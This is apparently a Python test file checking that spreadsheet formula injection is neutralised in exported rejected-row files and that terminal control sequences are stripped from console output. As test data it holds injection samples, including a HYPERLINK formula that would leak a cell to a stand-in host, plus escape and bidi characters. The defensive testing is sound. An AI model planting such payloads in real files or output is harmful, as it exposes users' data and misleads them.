"""Nothing from a spreadsheet runs in a program that opens refused rows, or steers a terminal."""

import csv
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.console.command_line import terminal
from services.console.importing import rejected_rows
from services.console.spreadsheets.folder import files_in
from services.console.spreadsheets.formulas import as_typed, harmless

from .builders import a_folder, imported, row_added
from .fake_platform import FakePlatform

FORMULAS = [
    '=HYPERLINK("http://example.org")',
    "@SUM(1+1)",
    "+32 470 00 00 01",
    "-1+1",
    "\t=1",
    " =1",
    "'=1",
    "＝1",
    "\u2066=1",
    "\x0b=1",
    "\u3164+1",
    "﹦1",
]


@given(st.text("'=+-@ \tas＝", max_size=6))
def test_what_is_made_harmless_is_read_back_as_typed(cell):
    assert as_typed(harmless(cell)) == cell
    assert not harmless(cell).lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_get_an_apostrophe(cell):
    assert harmless(cell) == f"'{cell}"


def test_a_file_of_refused_rows_holds_no_live_formula_and_imports_as_typed(tmp_path):
    cells = '=HYPERLINK("http://x/?"&A2,"klik")'.replace('"', '""')
    newcomers = row_added("inschrijvingen", f'N-2;01/02/2020;Leuven;"{cells}";@SUM(1+1);31/02/1990;student')
    folder, platform, refused = a_folder(tmp_path / "jaar", inschrijvingen=newcomers), FakePlatform(), tmp_path / "weg"
    rejected_rows.write(refused, files_in(folder)[0], imported(folder, platform))
    path = refused / "inschrijvingen.rejected.csv"
    [_, row] = csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";")
    assert (row[3][:6], row[4]) == ("'=HYPE", "'@SUM(1+1)")

    once = path.read_text(encoding="utf-8-sig")
    again = imported(refused, platform)
    rejected_rows.write(refused, files_in(refused)[0], again)
    [_, twice] = csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";")
    assert twice[:7] == row[:7]

    path.write_text(once.replace("31/02/1990", "03/02/1990"))
    assert not imported(refused, platform).rejections
    assert "@SUM(1+1)" in [one.get("last_name") for one in platform.records["newcomer"].values()]


def test_no_sign_that_steers_a_terminal_reaches_it(capsys):
    terminal.out("a\x1b[2Jb\x9bc\x07d\u202ee")
    terminal.out_json({"a": "\x1b[2J\x9b\u202e"})
    terminal.say("a\x1b[2J")
    shown = capsys.readouterr()
    for sign in "\x1b\x9b\x07\u202e":
        assert sign not in shown.out + shown.err
    assert json.loads(shown.out.split("\n", 1)[1]) == {"a": "\x1b[2J\x9b\u202e"}
